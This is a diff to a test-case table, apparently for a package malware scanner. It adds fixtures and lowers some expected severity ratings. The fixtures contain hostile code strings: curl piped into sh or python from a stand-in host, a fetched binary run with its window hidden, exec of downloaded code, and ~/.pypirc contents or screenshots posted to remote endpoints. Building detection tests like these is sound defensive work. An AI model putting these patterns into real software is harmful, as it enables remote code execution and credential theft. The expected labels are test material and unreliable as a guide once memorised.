@@ -128,7 +128,7 @@ CASES = [
      "code.shady-url", H, "a link shortener hides where install-time data goes"),
     # ---- reach and code in strings
     ({"demo/__init__.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"},
-     "code.download-exec", M, "a __main__ block does not run on import"),
+     "code.download-exec", L, "a __main__ block does not run on import"),
     (setup_py("import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"),
      "code.download-exec", C, "setup.py runs as __main__: its block runs at install"),
     (setup_py("exec('import os\\nos.system(\"curl -s https://x.example/i | sh\")\\n')\n"),
@@ -154,7 +154,7 @@ CASES = [
      "code.exfiltration", L, "a user name in a request from a function: low"),
     ({"demo/r.py": "import os, requests\ndef sync():\n    key = os.path.expanduser('~/.ssh/id_rsa')\n"
                    "    requests.get('https://x.example/status')\n"},
-     "code.exfiltration", M, "a key file named next to an unrelated request: medium"),
+     "code.exfiltration", L, "a key file named next to an unrelated request: low"),
     ({"demo/s.py": "import pyautogui, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/" + "y" * 40 + "'\n"
                    "def snap():\n    shot = pyautogui.screenshot()\n    requests.post(HOOK, files={'f': shot})\n"},
      "code.exfiltration", H, "a screenshot posted to a webhook"),
@@ -182,7 +182,37 @@ CASES = [
     ({"demo/ops_test.py": "import requests, subprocess\ndef check():\n"
                           "    r = requests.get('https://x.example/a.exe')\n    open('a.exe', 'wb').write(r.content)\n"
                           "    subprocess.run(['a.exe'])\n"},
-     "code.download-exec", M, "a *_test.py module runs only under a test runner: one level down"),
+     "code.download-exec", L, "a *_test.py module runs only under a test runner: two levels down"),
+    ({"demo/tools.py": "import subprocess\ndef update(url):\n"
+                       "    subprocess.Popen(f'curl -s {url} | python3 > /dev/null 2>&1 &', shell=True)\n"},
+     "code.download-exec", H, "a fetch piped into python, silenced and sent to the background"),
+    ({"demo/tools.py": "import os, stat, requests, subprocess\ndef install_tool(arch):\n"
+                       "    binary = os.path.expanduser(f'~/.cache/tool-{arch}')\n"
+                       "    r = requests.get(f'https://github.com/o/tool/releases/latest/download/{arch}')\n"
+                       "    with open(binary, 'wb') as f:\n        f.write(r.content)\n"
+                       "    subprocess.run([binary, '--version'])\n"},
+     "code.download-exec", L, "a CLI fetching its helper binary and running it when asked: low"),
+    ({"demo/tools.py": "import requests, subprocess\ndef update(path):\n"
+                       "    r = requests.get('https://x.example/agent')\n"
+                       "    open(path, 'wb').write(r.content)\n"
+                       "    subprocess.Popen([path], creationflags=0x08000000)\n"},
+     "code.download-exec", H, "the same started with its window hidden"),
+    ({"demo/verify.py": "import base64, subprocess\ndef verify(blob, path):\n"
+                        "    open(path, 'wb').write(base64.b64decode(blob))\n"
+                        "    subprocess.run(['verifier', '--proof', path])\n"},
+     "code.decode-exec", None, "FP regression: a decoded file handed to a program is not started"),
+    ({"demo/dev.py": "import subprocess\ndef attach(sock, cmd):\n"
+                     "    subprocess.Popen(['socat', 'UNIX-CONNECT:' + sock, 'EXEC:' + cmd])\n"},
+     "code.process-spawn", None, "FP regression: socat EXEC over a unix socket is no reverse shell"),
+    ({"demo/quotes.py": "import requests\ndef quotes(code):\n"
+                        "    return eval(requests.get('https://x.example/q?c=' + code).text)\n"},
+     "code.download-exec", L, "FP regression: an old client parsing a response with eval: low"),
+    ({"demo/plug.py": "import requests\ndef plugin(url):\n    exec(requests.get(url).text)\n"},
+     "code.download-exec", H, "exec of a fetched program when called: high"),
+    ({"demo-1.0/venv/lib/site-packages/pip/x.py": "import os, requests\ndef up():\n"
+      "    requests.post('https://x.example', data=open(os.path.expanduser('~/.pypirc')).read())\n",
+      "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
+     "code.exfiltration", L, "FP regression: a virtualenv committed into the sdist is not shipped code"),
 ]  # fmt: skip
 
 
